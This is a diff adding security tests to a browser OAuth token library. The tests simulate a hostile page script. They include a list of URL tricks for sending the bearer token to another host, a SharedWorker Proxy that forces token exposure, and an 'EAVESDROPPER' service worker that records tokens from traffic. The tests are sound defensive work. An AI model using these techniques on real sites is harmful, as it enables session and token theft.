@@ -1,9 +1,12 @@
 // A hostile script in the page. It can do much, and the documentation says what. It gets no token.
 import assert from 'node:assert/strict';
-import { infect, infectAll, installPort, lootOf } from './support/hostile.js';
+import { listen } from '../../demo/provider/src/listen.js';
+import { eventually } from './support/eventually.js';
 import { stage } from './support/harness.js';
+import { infect, infectAll, installPort, lootOf } from './support/hostile.js';
 import { ada } from './support/people.js';
 import { countOf, secretsOf, sightings } from './support/secrets.js';
+import { storageOf } from './support/storage.js';
 import { installStringsOf } from './support/strings.js';
 
 const { test } = stage({ app: 'pkg' });
@@ -315,3 +318,302 @@ for (const vault of ['shared', 'worker']) {
     await assertNoLoot(page, control);
   });
 }
+
+/** Another host, which notes what it is sent. It says what headers it got, and to whoever asks. */
+async function startElsewhere() {
+  const requests = [];
+  const { port, close } = await listen((req, res) => {
+    requests.push({ url: req.url, method: req.method, authorization: req.headers.authorization });
+    res.writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*, authorization' });
+    res.end(JSON.stringify(req.headers));
+  }, 0);
+  return { requests, close, port, origin: `http://localhost:${port}`, told: () => requests.filter(({ authorization }) => authorization) };
+}
+
+/** Asks the app's own `fetch`, and answers the status or the code. */
+const fetchAs = (page, url, init) => page.evaluate(([address, settings]) => window.auth.fetch(address, settings)
+  .then(({ status }) => status, ({ code, name }) => code ?? name), [url, init]);
+
+test('law 6: whatever is asked of the app\'s own fetch, the token goes to the listed APIs alone', { announced: [/Failed to load resource/] }, async (world) => {
+  const { app, context, control, page, provider, site, witness } = world;
+  const elsewhere = await startElsewhere();
+  try {
+    const { api, apiPort } = provider;
+    site.config.vault = 'shared';
+    // It is not the policy of the page that keeps the token here.
+    for (const host of ['localhost', '127.0.0.1', '*.localhost']) site.connectTo.push(`http://${host}:${elsewhere.port}`, `http://${host}:${apiPort}`);
+    await infectAll(context);
+    await app.open();
+    await app.logIn(ada);
+    const stolen = `${elsewhere.origin}/stolen`;
+    const attacks = [
+      ['another host', `${elsewhere.origin}/v1/me`, 'address_not_listed'],
+      ['a host that begins like it', `http://localhost.localhost:${elsewhere.port}/v1/me`, 'address_not_listed'],
+      ['a host below it', `http://api.localhost:${apiPort}/v1/me`, 'address_not_listed'],
+      ['a name and a password', `http://localhost:${apiPort}@localhost:${elsewhere.port}/v1/me`, 'TypeError'],
+      ['a path that holds it', `${elsewhere.origin}/${api}me`, 'address_not_listed'],
+      ['no scheme', `//localhost:${elsewhere.port}/v1/me`, 'address_not_listed'],
+      ['strokes the other way', `\\\\localhost:${elsewhere.port}\\v1\\me`, 'address_not_listed'],
+      ['a line break in the host', `http://local\nhost:${elsewhere.port}/v1/me`, 'address_not_listed'],
+      ['the same machine by number', api.replace('localhost', '127.0.0.1'), 'address_not_listed'],
+      ['a dot after the host', api.replace('localhost', 'localhost.'), 'address_not_listed'],
+      ['https', api.replace('http:', 'https:'), 'address_not_listed'],
+      ['a socket', api.replace('http:', 'ws:'), 'address_not_listed'],
+      ['the app itself', `${site.origin}/config.json`, 'address_not_listed'],
+      ['the provider', `${provider.issuer}/api/v1/oauth2/userinfo`, 'address_not_listed'],
+      ['a segment that only begins like it', api.replace('/v1/', '/v1x/'), 'address_not_listed'],
+      ['a step up', `${api}../admin`, 'address_not_listed'],
+      ['a step up in disguise', `${api}%2e%2e/admin`, 'address_not_listed'],
+      ['a step up in two disguises', `${api}%252e%252e/admin`, 404],
+      ['another case', api.replace('/v1/', '/V1/'), 'address_not_listed'],
+      ['the host in another case', `${api.replace('localhost', 'LOCALHOST')}me`, 200],
+      ['a redirect to another host', `${api}redirect?to=${encodeURIComponent(stolen)}`, 'api_redirected'],
+      ['a redirect that is to be followed', `${api}redirect?to=${encodeURIComponent(stolen)}`, 'api_redirected', { redirect: 'follow' }],
+      ['a redirect that is to fail', `${api}redirect?to=${encodeURIComponent(stolen)}`, 'api_redirected', { redirect: 'error' }],
+      ['a redirect back to the API', `${api}redirect?to=${encodeURIComponent(`${api}me`)}`, 'api_redirected'],
+      ['a header of its own', `${api}me`, 200, { headers: { Authorization: 'Bearer own' } }],
+      ['another mode', `${api}me`, 200, { mode: 'no-cors' }],
+      ['another mode, elsewhere', stolen, 'address_not_listed', { mode: 'no-cors' }],
+      ['a mode that wants the same origin', `${api}me`, 200, { mode: 'same-origin' }],
+      ['a referrer', `${api}me`, 200, { referrer: `${site.origin}/secret`, referrerPolicy: 'unsafe-url' }],
+      ['no address', 'http://[', 'TypeError'],
+    ];
+    for (const [name, url, outcome, init] of attacks) assert.equal(await fetchAs(page, url, init), outcome, name);
+    // An address that is another one each time it is read is read once.
+    assert.equal(await page.evaluate(async ([good, bad]) => {
+      const addresses = [good, bad, bad];
+      return window.auth.fetch({ toString: () => addresses.shift() }).then(({ url }) => url, ({ code }) => code);
+    }, [`${api}me`, stolen]), `${api}me`);
+    assert.deepEqual(elsewhere.requests, []);
+    // All went with the vault's own token, whatever the script said.
+    const answered = witness.requests('api').filter(({ path }) => path === '/v1/me').map(({ status, authorization }) => [status, authorization]);
+    assert.deepEqual(answered, Array(6).fill([200, true]));
+    await assertNoLoot(page, control);
+  } finally {
+    await elsewhere.close();
+  }
+});
+
+const channelOf = (provider) => `wristband-spa-auth/${provider.clientId}`;
+
+test('nonsense on the channel between the tabs does nothing', async (world) => {
+  const { app, context, page, provider, site } = world;
+  site.config.vault = 'shared';
+  await infectAll(context);
+  await app.open();
+  await app.logIn(ada);
+  await page.evaluate((name) => {
+    const channel = new BroadcastChannel(name);
+    const circle = {};
+    circle.circle = circle;
+    for (const message of ['', 'signed-out', 'x'.repeat(1e6), null, undefined, 0, NaN, [], {}, circle, new Date(), new Uint8Array(9), { session: 'x' },
+      { tell: 'state', state: { status: 'signed-out' } }, '\ud800']) channel.postMessage(message);
+  }, channelOf(provider));
+  const port = await openPort(page);
+  assert.equal(await send(page, port, () => ({ ask: 'userInfo', id: 1 })), 'answered');
+  assert.equal((await app.state()).status, 'signed-in');
+});
+
+test('a script that steals the lock of the vault costs one call, and no storm', async ({ app, context, page, site, witness }) => {
+  site.config.vault = 'shared';
+  await infectAll(context);
+  await app.open();
+  await app.logIn(ada);
+  const dials = () => page.evaluate(() => window.learnt.sharedWorkers.length);
+  assert.equal(await dials(), 1);
+  await page.evaluate(async () => {
+    const { held } = await navigator.locks.query();
+    for (const { name } of held.filter((lock) => lock.name.startsWith('wristband-spa-auth/vault/'))) {
+      await navigator.locks.request(name, { steal: true }, () => {});
+    }
+  });
+  await page.waitForFunction(() => window.learnt.sharedWorkers.length > 1);
+  await app.isSignedIn(ada);
+  assert.deepEqual(await app.callApi(3), [200, 200, 200]);
+  assert.equal(await app.call('renew'), 'done');
+  assert.equal(await dials(), 2);
+  assert.equal(witness.authorizeRequests().length, 1);
+});
+
+// What such a script can do nevertheless. The documentation has this list.
+
+test('it can: ask the vault for whatever the app could ask of its APIs', async ({ app, context, page, site, witness }) => {
+  site.config.vault = 'shared';
+  await infectAll(context);
+  await app.open();
+  await app.logIn(ada);
+  const port = await openPort(page);
+  assert.equal(await send(page, port, (url) => ({ ask: 'fetch', id: 1, url: url.replace('me', 'echo'), init: { method: 'POST', body: '{}' } })), 'status 200');
+  assert.deepEqual(witness.requests('api').map(({ method, authorization }) => [method, authorization]), [['POST', true]]);
+});
+
+test('it can: read the access token where a listed API says what it was sent', async (world) => {
+  const { app, context, control, page, site } = world;
+  const elsewhere = await startElsewhere();
+  try {
+    Object.assign(site.config, { vault: 'shared', apis: [`${elsewhere.origin}/`] });
+    site.connectTo.push(elsewhere.origin);
+    await infectAll(context);
+    await app.open();
+    await app.logIn(ada);
+    await page.evaluate((url) => window.auth.fetch(url).then((response) => response.text()), `${elsewhere.origin}/headers`);
+    assert.deepEqual(sightings(secretsOf(control), await lootOf(page)).filter((sighting) => sighting.endsWith('whole')), ['accessTokens[0] whole']);
+  } finally {
+    await elsewhere.close();
+  }
+});
+
+test('it can: sign the person out', async ({ app, context, page, provider, site }) => {
+  site.config.vault = 'shared';
+  await infectAll(context);
+  await app.open();
+  await app.logIn(ada);
+  // What tells sessions apart is made of what the app shows. It is no secret, and does nothing but end a session here.
+  await page.evaluate(async (name) => {
+    const { claims, tenantName } = window.auth.state;
+    const parts = [claims.iss, claims.sub, claims.tnt_id ?? '', tenantName ?? ''].join('\n');
+    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(parts));
+    new BroadcastChannel(name).postMessage(new Uint8Array(digest).toBase64({ alphabet: 'base64url', omitPadding: true }));
+  }, channelOf(provider));
+  assert.equal(await app.isSignedOut(), 'signed-out');
+  await app.leave({ tenantName: 'acme' });
+  await app.isSignedIn(ada);
+  const port = await openPort(page);
+  assert.match(await send(page, port, () => ({ ask: 'logout', id: 1 })), /answered/);
+  assert.equal(await app.isSignedOut(), 'signed-out');
+});
+
+test('it can: read the code verifier of a login that is under way, which is of no use when it is over', async (world) => {
+  const { app, control, page, site } = world;
+  site.config.vault = 'shared';
+  control.addFault({ endpoint: 'authorize', status: 204 });
+  await app.open();
+  await app.leave();
+  const pending = await eventually('the login', async () => Object.values((await storageOf(page)).databases)[0]?.pending[0]?.value);
+  assert.match(pending.verifier, /^[\w-]{43}$/);
+  await app.logIn(ada);
+  assert.ok(!control.issued().codeVerifiers.includes(pending.verifier));
+  assert.ok(!JSON.stringify(await storageOf(page)).includes(control.issued().codeVerifiers[0]));
+});
+
+test('it can: begin a login of its own under settings of its own, and read the tokens of that login', async (world) => {
+  const { app, context, control, page, site } = world;
+  site.config.vault = 'shared';
+  await infectAll(context);
+  // It has to be there when the browser comes back, before the app is.
+  await context.addInitScript(() => { if (location.pathname === '/callback' && sessionStorage.attack) window.stop(); });
+  await app.open();
+  await app.logIn(ada);
+  const settings = { rename: { exposeAccessToken: true, restore: 'none' } };
+  const port = await openPort(page, settings);
+  await send(page, port, () => ({ ask: 'open', id: 1, address: location.href }));
+  const learnt = await page.evaluate(() => window.learnt.sharedWorkers[0].given);
+  const url = await page.evaluate(async ([own]) => {
+    sessionStorage.attack = 'yes';
+    await own.say({ ask: 'login', id: 2, address: location.href, options: { tenantName: 'acme', prompt: 'none' } }, { until: 2 });
+    return own.heard.findLast(({ tell }) => tell === 'navigate').url;
+  }, [port]);
+  await page.goto(url, { waitUntil: 'commit' });
+  await page.waitForURL((address) => address.pathname === '/callback', { waitUntil: 'commit' });
+  await page.evaluate((given) => { window.learnt.sharedWorkers.push({ given }); }, learnt);
+  const own = await openPort(page, settings);
+  const token = await page.evaluate(async ([vault]) => {
+    const opened = vault.say({ ask: 'open', id: 1, address: location.href }, { until: 1 });
+    await vault.next(({ tell }) => tell === 'replace');
+    vault.port.postMessage({ tell: 'replaced' });
+    await opened;
+    const answers = await vault.say({ ask: 'accessToken', id: 2 }, { until: 2 });
+    return answers.find(({ id }) => id === 2).value;
+  }, [own]);
+  // A new one, made for that login. What the app's own session has stays where it is.
+  assert.deepEqual(control.issued().accessTokens.indexOf(token), 1);
+  assert.deepEqual([...new Set(sightings(secretsOf(control), await lootOf(page)).map((sighting) => sighting.split(' ')[0]))], ['accessTokens[1]']);
+});
+
+test('it can: start the app\'s own vault under other settings, if it was there before the app', async (world) => {
+  const { app, context, control, page, site } = world;
+  site.config.vault = 'shared';
+  await context.addInitScript(() => {
+    window.SharedWorker = new Proxy(window.SharedWorker, {
+      construct(Target, [url, options]) {
+        const [version, wasm, settings] = JSON.parse(options.name);
+        return new Target(url, { ...options, name: JSON.stringify([version, wasm, { ...settings, exposeAccessToken: true }]) });
+      },
+    });
+  });
+  await app.open();
+  await app.logIn(ada);
+  assert.equal(await page.evaluate(() => window.auth.accessToken()), control.issued().accessTokens[0]);
+});
+
+/** A service worker that keeps what passes through it. */
+const EAVESDROPPER = `
+  const keep = async (request, response) => (await caches.open('loot')).put('/' + crypto.randomUUID(), new Response(JSON.stringify({
+    url: request.url, sent: [...request.headers], body: await request.clone().text().catch(() => ''), got: await response.clone().text().catch(() => ''),
+  })));
+  addEventListener('install', () => skipWaiting());
+  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+  addEventListener('fetch', (event) => event.respondWith((async () => {
+    const copy = event.request.clone();
+    const response = await fetch(event.request);
+    await keep(copy, response);
+    return response;
+  })()));
+`;
+
+/** Registers a service worker, and waits until it listens. Answers the name of the error if that is not allowed. */
+const register = (page, file) => page.evaluate(async (url) => {
+  try {
+    await navigator.serviceWorker.register(url, { type: 'module' });
+  } catch (error) {
+    return error.name;
+  }
+  const { active } = await navigator.serviceWorker.ready;
+  if (active.state !== 'activated') await new Promise((resolve) => { active.addEventListener('statechange', resolve, { once: true }); });
+  return 'registered';
+}, file);
+
+/** What the service worker heard, that is a secret. */
+async function overheard(page, control) {
+  const { cached } = await storageOf(page);
+  const seen = sightings(secretsOf(control), cached.map(({ body }) => body));
+  return seen.filter((sighting) => sighting.endsWith('whole')).map((sighting) => sighting.split(' ')[0]);
+}
+
+for (const vault of ['shared', 'worker']) {
+  test(`it can: listen to a vault with a service worker, if it has a file on the app's own host: ${vault}`, async ({ app, control, page, site }) => {
+    site.config.vault = vault;
+    site.spoil('sw.js', { type: 'text/javascript', body: EAVESDROPPER });
+    await page.goto(site.blank);
+    assert.equal(await register(page, '/sw.js'), 'registered');
+    await app.open();
+    await app.logIn(ada);
+    assert.deepEqual(await app.callApi(), [200]);
+    await eventually('the notes', async () => (await overheard(page, control)).length === 4);
+    assert.deepEqual(await overheard(page, control), ['accessTokens[0]', 'refreshTokens[0]', 'idTokens[0]', 'codeVerifiers[0]']);
+  });
+}
+
+test('it can: listen to a vault that is there already, if it has a file on the app\'s own host', async ({ app, control, page, site }) => {
+  site.config.vault = 'shared';
+  site.spoil('sw.js', { type: 'text/javascript', body: EAVESDROPPER });
+  await app.open();
+  await app.logIn(ada);
+  assert.equal(await register(page, '/sw.js'), 'registered');
+  assert.equal(await app.call('renew'), 'done');
+  await eventually('the notes', async () => (await overheard(page, control)).includes('refreshTokens[1]'));
+});
+
+test('a policy that lets nothing but the vault be a worker keeps service workers out', { announced: [/worker-src/] }, async ({ app, control, page, site }) => {
+  site.config.vault = 'shared';
+  site.workers = site.url('vault.js');
+  site.spoil('sw.js', { type: 'text/javascript', body: EAVESDROPPER });
+  await app.open();
+  await app.logIn(ada);
+  assert.equal(await register(page, '/sw.js'), 'SecurityError');
+  // The vault's own file listens to nothing when it is one.
+  assert.equal(await register(page, '/vault.js'), 'registered');
+  assert.equal(await app.call('renew'), 'done');
+  assert.deepEqual(await app.callApi(), [200]);
+  assert.deepEqual(await overheard(page, control), []);
+});
